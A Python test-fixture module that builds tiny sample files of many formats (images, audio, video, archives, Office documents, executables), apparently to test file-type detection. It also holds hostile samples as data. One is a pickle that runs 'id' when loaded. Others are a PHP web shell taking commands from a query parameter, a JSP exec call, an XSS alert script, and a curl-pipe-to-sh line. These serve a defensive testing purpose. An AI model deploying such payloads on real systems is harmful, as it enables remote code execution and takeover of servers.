"""Small files of many kinds, made here byte by byte, so that every test knows what it sends."""

import bz2
import gzip
import io
import lzma
import struct
import tarfile
import wave
import zipfile
import zlib


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png() -> bytes:
    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    pixels = zlib.compress(b"\0\xff\0\0")
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", pixels) + _chunk(b"IEND", b"")


def jpeg() -> bytes:
    return (
        b"\xff\xd8\xff\xe0\0\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xdb\0C\0" + bytes(64)
        + b"\xff\xc0\0\x0b\x08\0\1\0\1\1\1\x11\0\xff\xda\0\x08\1\1\0\0?\0\x7f\xff\xd9"
    )  # fmt: skip


def jpeg_exif() -> bytes:
    return b"\xff\xd8\xff\xe1\0\x1aExif\0\0II*\0\x08\0\0\0\0\0\0\0\0\0\0\0\0\0" + jpeg()[20:]


def gif() -> bytes:
    return b"GIF89a\1\0\1\0\x80\0\0\xff\xff\xff\0\0\0,\0\0\0\0\1\0\1\0\0\2\2D\1\0;"


def webp() -> bytes:
    data = b"WEBPVP8L\x0d\0\0\0/\0\0\0\0\x07\x10\xfd\x8f\xfe\x07\x22\xa2\xff\1\0"
    return b"RIFF" + struct.pack("<I", len(data)) + data


def bmp() -> bytes:
    return (
        b"BM" + struct.pack("<IHHIIiiHHIIiiII", 58, 0, 0, 54, 40, 1, 1, 1, 24, 0, 4, 2835, 2835, 0, 0) + b"\0\0\xff\0"
    )


def tiff() -> bytes:
    entries = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8)]
    directory = b"".join(struct.pack("<HHII", *entry) for entry in entries)
    return b"II*\0" + struct.pack("<IH", 8, len(entries)) + directory + bytes(4)


def ico() -> bytes:
    return struct.pack("<HHHBBBBHHII", 0, 1, 1, 16, 16, 0, 0, 1, 32, len(png()), 22) + png()


def _box(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data) + 8) + kind + data


def iso_media(brand: bytes, *compatible: bytes) -> bytes:
    return _box(b"ftyp", brand + bytes(4) + b"".join(compatible)) + _box(b"mdat", bytes(64))


def mp3_tagged() -> bytes:
    return b"ID3\3\0\0\0\0\0\x0fTIT2\0\0\0\5\0\0\0song" + mp3_bare()


def mp3_bare() -> bytes:
    return (b"\xff\xfb\x90\x64" + bytes(413)) * 3


def adts() -> bytes:
    return (b"\xff\xf1\x50\x80\x0d\x1f\xfc" + bytes(97)) * 3


def wav() -> bytes:
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as file:
        file.setnchannels(1)
        file.setsampwidth(2)
        file.setframerate(8000)
        file.writeframes(bytes(64))
    return buffer.getvalue()


def ogg(codec: bytes = b"\x01vorbis\0\0\0\0\2\x44\xac\0\0\0\0\0\0\0\0\0\0\0\0\0\0\xb8\1") -> bytes:
    return b"OggS\0\2" + bytes(20) + b"\1" + bytes([len(codec)]) + codec


def flac() -> bytes:
    return b"fLaC\0\0\0\x22\x10\0\x10\0\0\0\x0e\0\0\x10\x0a\xc4\x42\xf0" + bytes(20)


def matroska(doctype: bytes) -> bytes:
    return (
        b"\x1a\x45\xdf\xa3\x9f\x42\x86\x81\1\x42\xf7\x81\1\x42\xf2\x81\4\x42\xf3\x81\x08\x42\x82"
        + bytes([0x80 | len(doctype)])
        + doctype
        + b"\x42\x87\x81\4\x42\x85\x81\2\x18\x53\x80\x67\x01"
        + bytes(40)
    )


def avi() -> bytes:
    return b"RIFF" + struct.pack("<I", 300) + b"AVI LIST" + struct.pack("<I", 192) + b"hdrlavih" + bytes(240)


def transport_stream(time: bytes = b"") -> bytes:
    """As it is caught on its way, in the middle of a packet."""
    return bytes(50) + 5 * (time + b"G\x1f\xff\x10" + bytes(184))


def pickle() -> bytes:
    """What runs `id` when Python loads it."""
    return b"\x80\x04\x95\x1d\0\0\0\0\0\0\0\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."


def pdf() -> bytes:
    return (
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n"
    )


def rtf() -> bytes:
    return rb"{\rtf1\ansi\deff0 {\fonttbl {\f0 Arial;}} Dear reader \par }"


def zipped(*entries: tuple[str, bytes], stored: bool = False) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries:
            archive.writestr(zipfile.ZipInfo(name, (2024, 1, 1, 0, 0, 0)), data)
    return buffer.getvalue()


_CONTENT_TYPES = b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types/>'
_RELS = b'<?xml version="1.0"?><Relationships/>'


def ooxml(folder: str) -> bytes:
    """As Word, Excel and PowerPoint order the entries."""
    main = {"word": "document", "xl": "workbook", "ppt": "presentation"}[folder]
    return zipped(
        ("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS), (f"{folder}/_rels/{main}.xml.rels", _RELS),
        (f"{folder}/{main}.xml", b"<x/>"), ("docProps/app.xml", b"<x/>"),
    )  # fmt: skip


def ooxml_reordered(folder: str) -> bytes:
    """As some libraries write them: the properties first, the types last."""
    return zipped(
        ("docProps/app.xml", b"<x/>"), ("docProps/core.xml", b"<x/>"), (f"{folder}/theme/theme1.xml", b"<x/>"),
        (f"{folder}/document.xml", b"<x/>"), ("_rels/.rels", _RELS), ("[Content_Types].xml", _CONTENT_TYPES),
    )  # fmt: skip


def ooxml_with_properties(folder: str) -> bytes:
    """As Apache POI writes them: so many properties before the document that libmagic does not reach it."""
    properties = (f"docProps/{name}.xml" for name in ("app", "core", "custom"))
    return zipped(
        ("[Content_Types].xml", _CONTENT_TYPES), ("_rels/.rels", _RELS),
        *((name, _CONTENT_TYPES) for name in properties), (f"{folder}/document.xml", b"<x/>"),
    )  # fmt: skip


def open_document(kind: str) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    return zipped(("mimetype", mimetype), ("content.xml", b"<x/>"), ("META-INF/manifest.xml", b"<x/>"), stored=True)


def epub() -> bytes:
    return zipped(("mimetype", b"application/epub+zip"), ("META-INF/container.xml", b"<x/>"), stored=True)


def ole(stream: str = "WordDocument") -> bytes:
    """A compound file with one directory entry beside its root."""
    sector = b"\xff" * 4
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(10)
        + struct.pack("<IIIIIIII", 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0) + sector * 108
    )  # fmt: skip
    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE) + sector * 126

    def entry(name: str, kind: int, child: int) -> bytes:
        encoded = (name + "\0").encode("utf-16-le")
        start = 0xFFFFFFFE if kind == 5 else 0
        return (
            encoded.ljust(64, b"\0") + struct.pack("<HBBIII", len(encoded), kind, 1, 0xFFFFFFFF, 0xFFFFFFFF, child)
            + bytes(36) + struct.pack("<IQ", start, 0)
        )  # fmt: skip

    directory = entry("Root Entry", 5, 1) + entry(stream, 2, 0xFFFFFFFF)
    return header + table + directory.ljust(512, b"\0")


def apple_double(attribute: bytes = b"0083;66112233;Safari;") -> bytes:
    """What macOS keeps beside a file that was loaded from the web."""
    name = b"com.apple.quarantine\0"
    table = struct.pack(">4sIIII12xHH", b"ATTR", 0, 0x78 + len(name) + len(attribute), 0x98, len(attribute), 0, 1)
    entry = struct.pack(">IIHB", 0x98, len(attribute), 0, len(name)) + name
    finder = bytes(34) + table + entry.ljust(36, b"\0") + attribute
    entries = struct.pack(">IIIIII", 9, 50, len(finder), 2, 50 + len(finder), 0)
    return b"\0\5\x16\7\0\2\0\0Mac OS X        \0\2" + entries + finder


def tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        member = tarfile.TarInfo("notes.txt")
        member.size = 5
        archive.addfile(member, io.BytesIO(b"hello"))
    return buffer.getvalue()


def gzipped() -> bytes:
    return gzip.compress(b"hello " * 40, mtime=0)


def bzipped() -> bytes:
    return bz2.compress(b"hello " * 40)


def xzipped() -> bytes:
    return lzma.compress(b"hello " * 40)


def zstandard() -> bytes:
    return b"\x28\xb5\x2f\xfd\x20\x05\x29\0\0hello"


def seven_zip() -> bytes:
    return b"7z\xbc\xaf\x27\x1c\0\4" + bytes(40)


def rar() -> bytes:
    return b"Rar!\x1a\x07\x01\0" + bytes(40)


def woff2() -> bytes:
    return b"wOF2\0\1\0\0" + bytes(60)


def ttf() -> bytes:
    tables = b"".join(
        tag + bytes(12) for tag in (b"cmap", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp", b"name")
    )
    return b"\0\1\0\0\0\x08\0\x80\0\3\0\0" + tables


def eml() -> bytes:
    return (
        b"Return-Path: <a@example.com>\r\nReceived: from mx.example.com (mx.example.com [192.0.2.1])\r\n"
        b"\tby mail.example.org with ESMTP; Mon, 1 Jan 2024 00:00:00 +0000\r\nFrom: a@example.com\r\n"
        b"To: b@example.org\r\nSubject: hello\r\nMIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n"
        b"<html><body><p>hello</p></body></html>\r\n"
    )


def svg() -> bytes:
    return b'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9"/></svg>\n'


def svg_with_prolog() -> bytes:
    return (
        b'\xef\xbb\xbf<?xml version="1.0" encoding="UTF-8"?>\n<!-- drawn by hand -->\n'
        b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n' + svg()
    )


def exe() -> bytes:
    return (
        b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0\xb8" + bytes(7) + b"@" + bytes(35) + b"\x80\0\0\0"
        + b"\x0e\x1f\xba\x0e\0\xb4\x09\xcd\x21\xb8\1\x4c\xcd\x21This program cannot be run in DOS mode.\r\r\n$"
        + bytes(7)
        + b"PE\0\0\x4c\1\3\0" + bytes(12) + b"\xe0\0\2\1\x0b\1" + bytes(222)
    )  # fmt: skip


def elf() -> bytes:
    return (
        b"\x7fELF\2\1\1" + bytes(9) + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400000, 64, 0, 0, 64, 56, 1, 64, 0, 0)
    )


def mach_o() -> bytes:
    return b"\xcf\xfa\xed\xfe\7\0\0\1\3\0\0\0\2\0\0\0" + bytes(64)


def java_class() -> bytes:
    return b"\xca\xfe\xba\xbe\0\0\0\x34\0\x0d\x0a\0\3" + bytes(40)


def swf() -> bytes:
    return b"FWS\x09\x40\0\0\0\x78\0\5\x5f\0\0\x0f\xa0\0\0\x0c\1\0" + bytes(20)


PHP = b"<?php system($_GET['c']); ?>\n"
HTML = b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>alert(1)</script></body></html>\n"
SHELL = b"#!/bin/sh\ncurl https://example.com/x | sh\n"
JSP = b'<%@ page import="java.io.*" %><% Runtime.getRuntime().exec("id"); %>\n'
